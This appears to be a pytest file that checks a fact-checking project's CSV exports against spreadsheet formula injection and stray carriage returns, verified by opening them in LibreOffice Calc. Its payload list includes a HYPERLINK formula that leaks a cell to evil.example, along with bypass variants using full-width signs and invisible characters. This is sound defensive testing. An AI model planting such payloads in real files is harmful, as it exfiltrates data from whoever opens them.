"""A real spreadsheet opens the CSV exports: no cell is a formula and no CR starts a new row."""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date
from pathlib import Path
from xml.etree import ElementTree

import pytest
from frictionless import validate

from berlintalks.export.claimreview import short_claim
from berlintalks.export.tables import _cell, inert
from conftest import PUBLICATION_ID, SOURCES, Run, claim_yaml, copy_from_repo, write_kb

TABLES = ("claims", "sources", "publications", "attributions", "via", "relations")
# An upper bound for LibreOffice starting with a fresh profile and converting four files.
SOFFICE_TIMEOUT = 300

# Each text an attacker might give, and whether a spreadsheet would run it (so the CSV must
# carry it with an apostrophe in front). The last four are the twins that must stay as written.
# `check` refuses a CR in any field and a TAB outside multi-line text (BT103), so a CR reaches
# the CSV writer only past the check; `inert` is tested on it directly in test_inert_*.
PAYLOADS: tuple[tuple[str, bool], ...] = (
    ('=HYPERLINK("http://evil.example/?leak="&A1,"click")', True),
    ("+1+1", True),
    ("-2+3", True),
    ("@SUM(A1)", True),
    ("\t=1+1", True),
    ("＝1+1", True),
    ("＋1+1", True),
    ("－2+3", True),
    ("＠SUM(A1)", True),
    ("  =1+1", True),
    ("\u00a0@SUM(A1)", True),
    ("said\n=1+1\non a new line", False),
    ("said\n=3+3", False),
    ("x = 1 + 1", False),
    ("e-mail @ noon", False),
)


def soffice() -> str:
    """The LibreOffice binary; skipped where it is missing, but a failure under CI."""
    found = shutil.which("soffice") or shutil.which("libreoffice")
    if found:
        return found
    reason = "LibreOffice (soffice) is not installed: apt-get install libreoffice-calc-nogui"
    if os.environ.get("CI", "").lower() in ("1", "true", "yes"):
        pytest.fail(f"CI=true and {reason}", pytrace=False)
    pytest.skip(reason)


def single_line(text: str) -> str:
    # Titles, names and roles are single-line fields: `check` refuses a TAB or LF there (BT103).
    return text.replace("\n", " ").replace("\t", " ")


def q(text: str) -> str:
    # A JSON string is a YAML double-quoted scalar: the escapes carry the TAB and CR.
    return json.dumps(text, ensure_ascii=False)


def hostile_kb(root: Path) -> Path:
    """The payloads in every text field that reaches a CSV: one claim and one source each."""
    claims: dict[str, str | bytes] = {"talks": claim_yaml()}
    sources: dict[str, str | bytes] = dict(SOURCES)
    for i, (text, _) in enumerate(PAYLOADS):
        claims[f"evil-{i}"] = f"""\
            id: evil-{i}
            title: {q(single_line(text))}
            statement: {q(text)}
            status: reported
            date: 2025-12-14
            topics: [diplomacy]
            attributions:
              - source: mallory-{i}
                via: afp
                quote: {q(text)}
                publication: {PUBLICATION_ID}
            rationale: {q(text)}
            relations:
              - type: qualifies
                claim: talks
                note: {q(text)}
            """
        sources[f"mallory-{i}"] = f"""\
            id: mallory-{i}
            name: {q(single_line(text))}
            kind: person
            role: {q(single_line(text))}
            reliability: C
            reliability_reason: {q(single_line(text))}
            """
    return write_kb(root, claims, sources)


def in_csv(text: str, runs: bool) -> str:
    return "'" + text if runs else text


def csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.reader(f))


def by_id(path: Path, key: str = "id") -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return {row[key]: row for row in csv.DictReader(f)}


# ---------------------------------------------------------------- reading an .ods


NS = {
    "office": "urn:oasis:names:tc:opendocument:xmlns:office:1.0",
    "table": "urn:oasis:names:tc:opendocument:xmlns:table:1.0",
    "text": "urn:oasis:names:tc:opendocument:xmlns:text:1.0",
}


def _q(prefix: str, name: str) -> str:
    return f"{{{NS[prefix]}}}{name}"


@dataclass(frozen=True)
class Cell:
    text: str
    type: str  # office:value-type: string, float, date, ... ("" for an empty cell)
    formula: str | None


def _paragraph(p: ElementTree.Element) -> str:
    out = [p.text or ""]
    for child in p:
        if child.tag == _q("text", "s"):
            out.append(" " * int(child.get(_q("text", "c"), "1")))
        elif child.tag == _q("text", "tab"):
            out.append("\t")
        elif child.tag == _q("text", "line-break"):
            out.append("\n")
        else:
            out.append(_paragraph(child))
        out.append(child.tail or "")
    return "".join(out)


def read_ods(path: Path) -> list[list[Cell]]:
    """The first sheet of an .ods as rows of cells, repeats expanded, trailing blanks cut."""
    root = ElementTree.fromstring(zipfile.ZipFile(path).read("content.xml"))
    sheet = root.find(".//table:table", NS)
    assert sheet is not None, f"{path.name} has no sheet"
    rows: list[list[Cell]] = []
    for row in sheet.iter(_q("table", "table-row")):
        cells: list[Cell] = []
        for cell in row:
            if cell.tag not in (_q("table", "table-cell"), _q("table", "covered-table-cell")):
                continue
            text = "\n".join(_paragraph(p) for p in cell.findall("text:p", NS))
            value = Cell(
                text, cell.get(_q("office", "value-type"), ""), cell.get(_q("table", "formula"))
            )
            cells.extend([value] * int(cell.get(_q("table", "number-columns-repeated"), "1")))
        while cells and cells[-1] == Cell("", "", None):
            cells.pop()
        rows.extend([cells] * int(row.get(_q("table", "number-rows-repeated"), "1")))
    while rows and not rows[-1]:
        rows.pop()
    return rows


def open_in_calc(
    binary: str, csvs: list[Path], tmp_path: Path, *, trim_spaces: bool = False
) -> dict[str, list[list[Cell]]]:
    """Each CSV as LibreOffice Calc opens it, saved as .ods: ``{file stem: rows}``."""
    out = tmp_path / ("ods-trimmed" if trim_spaces else "ods")
    # Comma, double quote, UTF-8 (76), from line 1, quoted fields not forced to text, special
    # numbers detected, token 11 "trim spaces" as asked, and token 13, "evaluate formulas",
    # on: Calc at its most eager.
    trim = "true" if trim_spaces else "false"
    infilter = f"CSV:44,34,76,1,,1033,false,true,false,false,{trim},-1,true"
    done = subprocess.run(
        [
            binary,
            f"-env:UserInstallation={(tmp_path / 'lo-profile').as_uri()}",
            "--headless",
            "--norestore",
            f"--infilter={infilter}",
            "--convert-to",
            "ods",
            "--outdir",
            str(out),
            *map(str, csvs),
        ],
        capture_output=True,
        text=True,
        timeout=SOFFICE_TIMEOUT,
    )
    converted = {p.stem: read_ods(p) for p in sorted(out.glob("*.ods"))}
    assert sorted(converted) == sorted(p.stem for p in csvs), (done.stdout, done.stderr)
    return converted


def trimmed(row: list[str]) -> list[str]:
    # Calc keeps no empty cells at the end of a row.
    while row and row[-1] == "":
        row = row[:-1]
    return row


def as_calc_shows(text: str) -> str:
    # Calc turns every line break inside a quoted cell (CRLF, CR or LF) into a new paragraph.
    return text.replace("\r\n", "\n").replace("\r", "\n")


def control_csv(tmp_path: Path) -> Path:
    """Cells written the way the exports were before: this Calc must run them, or the tests
    below could not fail. A bare CR splits row 2; row 3 runs once spaces are trimmed."""
    control = tmp_path / "control" / "control.csv"
    control.parent.mkdir(exist_ok=True)
    control.write_bytes(b"id,title\n1,=1+1\n2,said\r=3+3\n3,  =2+2\n")
    return control


def formulas(rows: list[list[Cell]]) -> list[str]:
    return [c.formula for row in rows for c in row if c.formula]


# ---------------------------------------------------------------- tests


@pytest.fixture
def exported(tmp_path: Path, cli: Callable[..., Run]) -> Path:
    """The hostile knowledge base, checked clean and exported by ``berlintalks export``."""
    root = hostile_kb(tmp_path / "kb")
    out = tmp_path / "out"
    formats = ("--format", "json", "--format", "claimreview", "--format", "datapackage")
    run = cli("export", "--root", root, "--out", out, *formats)
    assert run.code == 0, run.out + run.err
    return out


def test_text_cells_a_spreadsheet_would_run_get_an_apostrophe(exported: Path) -> None:
    claims = by_id(exported / "claims.csv")
    sources = by_id(exported / "sources.csv")
    attributions = {r["source"]: r for r in by_id(exported / "attributions.csv", "claim").values()}
    relations = by_id(exported / "relations.csv", "claim")
    for i, (text, runs) in enumerate(PAYLOADS):
        assert claims[f"evil-{i}"]["title"] == in_csv(single_line(text), runs), i
        assert claims[f"evil-{i}"]["statement"] == in_csv(text, runs), i
        assert sources[f"mallory-{i}"]["name"] == in_csv(single_line(text), runs), i
        assert sources[f"mallory-{i}"]["role"] == in_csv(single_line(text), runs), i
        assert attributions[f"mallory-{i}"]["quote"] == in_csv(text, runs), i
        assert relations[f"evil-{i}"]["note"] == in_csv(text, runs), i
    # What no spreadsheet runs is written exactly: ids, dates, the typed position.
    assert claims["talks"]["title"] == "Talks took place in Berlin"
    assert claims["evil-0"]["date"] == "2025-12-14"
    assert attributions["mallory-0"]["position"] == "1"


def test_every_cr_and_lf_in_a_csv_is_inside_quotes(exported: Path) -> None:
    for name in TABLES:
        raw = (exported / f"{name}.csv").read_bytes()
        records = csv_rows(exported / f"{name}.csv")
        # Rows end in CRLF; any other CR or LF sits in a quoted cell, so a reader that splits
        # lines naively still sees each row's end only at a CRLF outside quotes.
        outside = b"".join(raw.split(b'"')[::2])
        assert outside.count(b"\r\n") == len(records), name
        assert outside.replace(b"\r\n", b"").count(b"\r") == 0, name
        assert outside.replace(b"\r\n", b"").count(b"\n") == 0, name
    assert len(csv_rows(exported / "claims.csv")) == len(PAYLOADS) + 2


def test_json_exports_keep_the_exact_text(exported: Path) -> None:
    claims = {c["id"]: c for c in json.loads((exported / "claims.json").read_text("utf-8"))}
    sources = {s["id"]: s for s in json.loads((exported / "sources.json").read_text("utf-8"))}
    for i, (text, _) in enumerate(PAYLOADS):
        claim = claims[f"evil-{i}"]
        assert claim["title"] == single_line(text)
        assert claim["statement"] == text
        assert claim["attributions"][0]["quote"] == text
        assert claim["relations"][0]["note"] == text
        assert sources[f"mallory-{i}"]["name"] == single_line(text)
        assert sources[f"mallory-{i}"]["role"] == single_line(text)
    reviews = json.loads((exported / "claimreview.json").read_text("utf-8"))
    by_url = {r["url"].rsplit("/", 2)[-2]: r for r in reviews}
    for i, (text, _) in enumerate(PAYLOADS):
        review = by_url[f"evil-{i}"]
        # claimReviewed is the title, shortened for search results; never neutralised.
        assert review["claimReviewed"] == short_claim(single_line(text))
        assert review["description"] == " ".join(text.split())
        assert review["headline"] == single_line(text)
        assert review["itemReviewed"]["author"]["name"] == single_line(text)


def test_data_package_says_what_was_done_to_such_cells(exported: Path) -> None:
    package = json.loads((exported / "datapackage.json").read_text("utf-8"))
    said = "is prefixed with an apostrophe (') so that no spreadsheet runs it as a formula"
    assert said in package["description"]
    assert "the JSON exports keep the exact text" in package["description"]
    assert [said in r["description"] for r in package["resources"]] == [True] * len(TABLES)
    # CRLF rows and quoted CRs are still the tables the package describes, row for row.
    report = validate(str(exported / "datapackage.json"))
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    assert [task.stats["rows"] for task in report.tasks] == [
        len(PAYLOADS) + 1,
        len(PAYLOADS) + len(SOURCES),
        1,  # the one publication every attribution is read in
        len(PAYLOADS) + 1,
        len(PAYLOADS) + 1,  # each attribution passes through afp
        len(PAYLOADS),
    ]


def test_libreoffice_opens_every_csv_with_no_formula_and_no_extra_row(
    exported: Path, tmp_path: Path
) -> None:
    binary = soffice()
    csvs = [*(exported / f"{n}.csv" for n in TABLES), control_csv(tmp_path)]
    sheets = open_in_calc(binary, csvs, tmp_path)

    assert formulas(sheets["control"]) == ["of:=1+1", "of:=3+3"]
    assert len(sheets["control"]) == 5

    for name in TABLES:
        rows = sheets[name]
        assert formulas(rows) == [], name
        written = csv_rows(exported / f"{name}.csv")
        assert len(rows) == len(written), name
        # Calc reads exactly the cells Python's csv module reads: nothing split, nothing run.
        shown = [[c.text for c in row] for row in rows]
        assert shown == [trimmed([as_calc_shows(t) for t in row]) for row in written], name

    claims = {row[0].text: row for row in sheets["claims"][1:]}
    header = [c.text for c in sheets["claims"][0]]
    title, when = header.index("title"), header.index("date")
    for i, (text, runs) in enumerate(PAYLOADS):
        cell = claims[f"evil-{i}"][title]
        assert cell.type == "string", i
        assert cell.text == as_calc_shows(in_csv(single_line(text), runs)), i
    assert claims["evil-0"][title].text.startswith("'=HYPERLINK(\"http://evil.example/?leak=")
    # Dates and numbers are still typed: the apostrophe went only where text was.
    assert claims["evil-0"][when].type == "date"
    header = [c.text for c in sheets["attributions"][0]]
    positions = {row[header.index("position")].type for row in sheets["attributions"][1:]}
    assert positions == {"float"}
    assert len(sheets["claims"]) == len(PAYLOADS) + 2
    assert len(sheets["sources"]) == len(PAYLOADS) + len(SOURCES) + 1
    assert len(sheets["attributions"]) == len(PAYLOADS) + 2
    assert len(sheets["relations"]) == len(PAYLOADS) + 1


@pytest.mark.parametrize(
    ("text", "written"),
    [
        ("=1+1", "'=1+1"),
        ("\u200b=1+1", "'\u200b=1+1"),
        ("\ufeff+1", "'\ufeff+1"),
        (" \t -1", "' \t -1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("", ""),
        ("   ", "   "),
        ("1-2", "1-2"),
        ("'=1+1", "'=1+1"),
    ],
)
def test_inert_looks_past_leading_spaces_and_invisible_characters(text: str, written: str) -> None:
    assert inert(text) == written


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-3, -3),
        (-1.5, -1.5),
        ("-3", "'-3"),
        (date(2025, 12, 14), "2025-12-14"),
        (("=a", "b"), "'=a b"),
        (None, ""),
    ],
)
def test_only_text_is_neutralised_numbers_stay_numbers(value: object, written: object) -> None:
    # A number column keeps its sign: the CSV writer prints -3, and a spreadsheet reads -3.
    assert _cell(value) == written


def test_the_built_sites_data_csvs_are_neutralised_too(
    tmp_path: Path, cli: Callable[..., Run]
) -> None:
    root = copy_from_repo(hostile_kb(tmp_path / "kb"))
    site = tmp_path / "site"
    run = cli("build", "--root", root, "--site-dir", site, "--quiet")
    assert run.code == 0, run.out + run.err
    claims = by_id(site / "data" / "claims.csv")
    for i, (text, runs) in enumerate(PAYLOADS):
        assert claims[f"evil-{i}"]["statement"] == in_csv(text, runs), i
    assert len(csv_rows(site / "data" / "claims.csv")) == len(PAYLOADS) + 2
    site_json = json.loads((site / "data" / "claims.json").read_text("utf-8"))
    assert {c["id"]: c["statement"] for c in site_json}["evil-0"] == PAYLOADS[0][0]
    page = " ".join((site / "data" / "index.html").read_text("utf-8").split())
    assert "has an apostrophe (<code>'</code>) put in front of it" in page
    assert "The JSON files keep the exact text." in page
    # The site's copies are the export's files, byte for byte: one code path writes both.
    out = tmp_path / "out"
    assert cli("export", "--root", root, "--out", out, "--format", "datapackage").code == 0
    for name in TABLES:
        assert (site / "data" / f"{name}.csv").read_bytes() == (out / f"{name}.csv").read_bytes()


def test_libreoffice_trimming_spaces_runs_no_cell_either(exported: Path, tmp_path: Path) -> None:
    # With "Trim spaces" on, Calc drops the spaces before a sign and runs what follows: the
    # apostrophe must come before the spaces, not after them.
    binary = soffice()
    csvs = [*(exported / f"{n}.csv" for n in TABLES), control_csv(tmp_path)]
    sheets = open_in_calc(binary, csvs, tmp_path, trim_spaces=True)
    assert formulas(sheets["control"]) == ["of:=1+1", "of:=3+3", "of:=2+2"]
    for name in TABLES:
        assert formulas(sheets[name]) == [], name
        assert len(sheets[name]) == len(csv_rows(exported / f"{name}.csv")), name
    claims = {row[0].text: row for row in sheets["claims"][1:]}
    spaced = next(i for i, (text, _) in enumerate(PAYLOADS) if text == "  =1+1")
    assert claims[f"evil-{spaced}"][1].text == "'  =1+1"
